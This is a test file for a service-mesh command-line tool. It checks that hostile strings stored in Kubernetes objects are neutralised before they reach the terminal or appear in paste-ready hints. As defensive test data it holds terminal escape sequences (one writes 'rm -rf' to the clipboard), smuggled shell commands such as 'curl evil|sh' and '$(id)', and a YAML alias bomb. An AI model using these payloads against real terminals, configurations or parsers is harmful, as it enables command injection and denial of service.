import {dump} from 'js-yaml'
import {afterAll, beforeAll, describe, expect, test} from 'vitest'
import {type Ground, openGround} from '../../support/ground/ground.ts'
import {sharedServers} from '../../support/servers/shared.ts'

const servers = sharedServers()

/** A control character other than a line break, an escape sequence, or a character that changes the direction of text. */
// biome-ignore lint/suspicious/noControlCharactersInRegex: these characters are what the test looks for
const controls = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/

/** YAML whose aliases expand to 10^8 values. */
function bomb(): string {
  const levels = Array.from({length: 8}, (_, i) => `a${i + 1}: &a${i + 1} [${Array(10).fill(`*a${i}`).join(', ')}]`)
  return ['a0: &a0 {k: "lol"}', ...levels, 'defaultConfig:', '  meshId: mesh1', '  x: *a8', ''].join('\n')
}

describe.skipIf(!servers)('text from a cluster', () => {
  let ground: Ground
  const team = 'untrusted-team'
  beforeAll(async () => {
    ground = await openGround(servers!)
    await ground.cluster('east').api.apply({apiVersion: 'v1', kind: 'Namespace', metadata: {name: team}})
  })
  afterAll(() => ground?.close())

  const setMesh = (mesh: string) =>
    ground.cluster('east').api.apply({
      apiVersion: 'v1',
      kind: 'ConfigMap',
      metadata: {name: 'istio', namespace: ground.namespace},
      data: {mesh},
    })

  test('escape sequences of objects do not reach the terminal', async () => {
    const {api, context} = ground.cluster('east')
    const metadata = {name: 'esc', namespace: team}
    await api.apply({
      apiVersion: 'networking.istio.io/v1',
      kind: 'WorkloadEntry',
      metadata: {...metadata, annotations: {'istio.io/autoRegistrationGroup': 'g\u001b[2J\u001b]52;c;cm0gLXJm\u0007'}},
      spec: {address: '10.9.9.9', locality: 'r\u001b[31m/z', network: 'n\u001b[1A\u001b[2K'},
    })
    await api.apply({
      apiVersion: 'security.istio.io/v1',
      kind: 'AuthorizationPolicy',
      metadata,
      spec: {action: 'CUSTOM', provider: {name: 'p\u001b]0;TITLE\u0007\nok  ok  ok'}, rules: [{}]},
    })
    // Not an apply: the server reads that as YAML, which has no C1 characters.
    await api.create({
      apiVersion: 'networking.istio.io/v1',
      kind: 'Gateway',
      metadata,
      spec: {
        selector: {istio: 'x\u001b[31m'},
        servers: [
          {
            port: {number: 443, name: 'h', protocol: 'HTTPS'},
            hosts: ['a.b'],
            tls: {mode: 'SIMPLE', credentialName: 'c\u009b31m\u202e'},
          },
        ],
      },
    })
    const system = ['--system-namespace', ground.namespace, '--context', context]
    for (const [shown, ...args] of [
      [team, 'vm', 'list', '--context', context],
      ['esc', 'authz', 'list', ...system],
      ['a.b', 'ingress', 'tls', '--list', ...system],
    ] as const) {
      const {code, stdout, stderr} = await ground.mesh(args)
      expect(code, stderr).toBe(0)
      expect(stdout).toContain(shown)
      expect(stdout + stderr).not.toMatch(controls)
      expect(stderr).not.toMatch(/unexpected/)
    }
  })

  test('a hint with values of the mesh config is safe to paste', async () => {
    await setMesh(
      dump({defaultConfig: {meshId: 'm;curl evil|sh #'}, trustDomain: 'td$(id)', rootNamespace: ground.namespace}),
    )
    const {stdout, stderr} = await ground.federate(['--dry-run=server'])
    const hints = (stdout + stderr).split('\n').filter(line => /^hint:|^ {2}kubectl|^ {2}istioctl/.test(line))
    for (const line of hints) expect(line.replace(/'[^']*'/g, '')).not.toMatch(/\$\(|;curl|\|sh/)
    expect(stderr).not.toMatch(/unexpected/)
  })

  test.each<[string, string]>([
    ['aliases that expand to 10^8 values', bomb()],
    ['a list in proxyMetadata', 'defaultConfig:\n  meshId: mesh1\n  proxyMetadata:\n    X: ["$(id)"]\n'],
    ['null and a map in proxyMetadata', 'defaultConfig:\n  proxyMetadata:\n    X: null\n    Y: {a: b}\n'],
    ['a list for defaultConfig', 'defaultConfig: [a, b]\n'],
    ['texts for maps and lists', 'defaultConfig: "text"\ndiscoverySelectors: "x"\n'],
    ['a list as the whole', '- a\n'],
  ])('a mesh config with %s is a finding, not a failure of the program', async (_, mesh) => {
    await setMesh(mesh)
    const {context} = ground.cluster('east')
    const runs = [
      ['federate', ...ground.all, '--dry-run=server'],
      [
        'vm',
        'register',
        'web',
        '-n',
        team,
        '--context',
        context,
        '--system-namespace',
        ground.namespace,
        '--dry-run=server',
      ],
      ['authz', 'list', '--context', context, '--system-namespace', ground.namespace],
      ['tenant', 'list', '--context', context],
    ]
    for (const {code, stderr} of await Promise.all(runs.map(args => ground.mesh(args)))) {
      expect(stderr).not.toMatch(/unexpected|heap|RangeError|TypeError/)
      expect([0, 1, 2, 3]).toContain(code)
    }
  })
})
